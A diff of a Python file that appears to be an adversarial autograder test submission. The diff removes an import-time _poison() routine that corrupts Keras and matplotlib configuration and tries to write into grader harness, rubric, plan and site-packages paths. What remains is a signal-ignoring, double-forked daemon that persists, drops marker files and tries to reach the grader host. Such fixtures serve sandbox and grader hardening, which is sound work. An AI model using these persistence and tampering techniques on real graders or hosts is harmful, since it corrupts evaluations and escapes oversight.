@@ -1,9 +1,7 @@
-"""Tries to persist and to poison: at import it rewrites ~/.keras/keras.json, plants a fake
-~/.keras/datasets/mnist.npz, a matplotlibrc and cache files, and tries to write into the submission,
-the grader's inputs, plan and harness, and host paths; train_one_epoch leaves a daemon behind (double
-fork, setsid, SIGTERM/SIGHUP/SIGINT ignored) that keeps a heartbeat, drops marker files and tries to
-reach the grader host; forward_loop (a later check) refuses to work while that daemon is alive. All
-functions are otherwise correct and must keep their points."""
+"""Tries to persist: train_one_epoch leaves a daemon behind (double fork, setsid, SIGTERM/SIGHUP/SIGINT
+ignored) that keeps a heartbeat in $HOME, drops marker files wherever it can and keeps trying to reach
+the grader host; forward_loop (a later check, in another process) refuses to work while that daemon is
+alive. Both functions are otherwise correct and must keep their points."""
 
 
 def train_one_epoch(model, x, y, batch_size, rng):
@@ -25,7 +23,6 @@ def forward_loop(W, b, X):
     return z
 
 
-import json as _json
 import os as _os
 import signal as _signal
 import socket as _socket
@@ -47,21 +44,6 @@ def _try_write(path, text):
         return True
     except OSError:
         return False
-
-
-def _poison():
-    _try_write(_os.path.join(_HOME, ".keras", "keras.json"),
-               _json.dumps({"floatx": "float16", "epsilon": 1.0, "backend": "jax", "image_data_format": "channels_first"}))
-    _try_write(_os.path.join(_HOME, ".keras", "datasets", "mnist.npz"), "not an npz")
-    _try_write(_os.path.join(_HOME, ".matplotlib", "matplotlibrc"), "backend: module://evil_backend\n")
-    _try_write(_os.path.join(_HOME, ".cache", "autograder_attack_marker_cache"), "poisoned\n")
-    for path in ("/root/.keras/keras.json", "/root/.keras/datasets/mnist.npz", "/sandbox/submission/hello_mnist.py",
-                 "/sandbox/inputs/preprocess.npz", "/sandbox/plan/plan.json", "/opt/grader/harness/probes.py",
-                 "/work/main/autograder/graders/rubric.toml", "/work/main/.venv/lib/python3.11/site-packages/zz.pth"):
-        if _try_write(path, "poisoned by a submission\n"):
-            print("WROTE", path)
-    for path in _MARKERS:
-        _try_write(path, "written by a submission\n")
 
 
 def _daemon_alive():
@@ -97,5 +79,3 @@ def _spawn_daemon():
                 pass
         _time.sleep(0.2)
 
-
-_poison()
